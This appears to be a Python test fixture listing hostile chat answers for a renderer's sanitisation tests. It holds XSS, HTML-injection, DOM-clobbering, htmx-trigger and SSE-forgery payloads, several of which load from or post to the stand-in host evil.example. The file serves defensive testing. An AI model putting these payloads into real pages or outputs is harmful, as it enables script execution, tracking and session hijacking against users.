"""Answers that would do something a browser's listeners hear, if only they were more than text."""

from tests.unit.rendering.test_hostile import AROUND, LINKS, MARKUP, SCHEMES

LOUD = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/static/chat/js/htmx.js onload=alert(1)></script>",
    "<img src=//evil.example/pixel.png>",
    "<img src=/nowhere.png onerror=alert(1)>",
    "![a pixel](//evil.example/pixel.png) ![one more][pixel]\n\n[pixel]: //evil.example/pixel.png",
    "<svg onload=alert(1)><image href=//evil.example/pixel.png></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi><table><mi><mglyph><style><img src=//evil.example/pixel.png></style>",
    r"$\text{<img src=//evil.example/pixel.png onerror=alert(1)>}$",
    r"$$\href{javascript:alert(1)}{x}$$ and $\unicode{<script>alert(1)</script>}$",
    r"$$\begin{matrix} </math><script>alert(1)</script> & <style>@import '//evil.example/'</style> \end{matrix}$$",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/y) }</style>",
    "<div style='background: url(//evil.example/y)'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content='0; url=//evil.example/'>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<iframe src=//evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/></object><embed src=//evil.example/>",
    "<form action=//evil.example/ id=composer><input name=text autofocus onfocus=alert(1)><button>Go</button></form>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div><p data-hx-get=/accounts/logout/ data-hx-trigger=load>x</p>",
    "<div hx-ext=sse sse-connect=/nowhere/ sse-swap=patch>x</div><p hx-swap-oob=true id=thread>gone</p>",
    "<div hx-on:htmx:load=alert(1)>x</div><div hx-vals='js:{x: alert(1)}' hx-get=/x hx-trigger=load>x</div>",
    "<a id=htmx name=location>x</a><img name=getElementById><form id=document><input name=body></form>",
    "</template></div></article></section><script>alert(1)</script><template data-at=0 data-drop=9>",
    "<template data-at=0 data-drop=3><script>alert(1)</script></template>",
    "```html\n</code></pre></figure></template><script>alert(1)</script>\n<template data-at=0 data-drop=9>\n```",
    "| <template data-at=9> | </table><script>alert(1)</script>\n|-|-|\n| </td></template> | <img onerror=alert(1)>",
    "event: done\ndata: <script>alert(1)</script>\nid: 99999.0\n\nretry: 1\n\n",
    "<video src=//evil.example/v autoplay onerror=alert(1)></video><audio src=//evil.example/a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open><button autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><input popovertarget=x type=image src=//evil.example/>",
    "<p onpointerover=alert(1) onanimationstart=alert(1) style='animation: breathe 1s'>x</p>",
]
DESTINATIONS = [link.replace("{}", scheme) for scheme in SCHEMES for link in LINKS]
SHORT = [*LOUD, *MARKUP, *(f"[a]({scheme}) <{scheme}>" for scheme in SCHEMES)]
ANSWERS = {
    "one after the other": "\n\n".join([*LOUD, *MARKUP]),
    "in lists": "\n".join(f"- {one}" for one in LOUD),
    "in quotes": "\n\n".join("> " + one.replace("\n", "\n> ") for one in LOUD),
    "in a table": "| a | b |\n|---|---|\n" + "".join(f"| {one} | `{one}` |\n" for one in LOUD if "\n" not in one),
    "in everything else": "\n\n".join(around.replace("{}", LOUD[n % len(LOUD)]) for n, around in enumerate(AROUND)),
    "in links": "\n\n".join(DESTINATIONS),
}
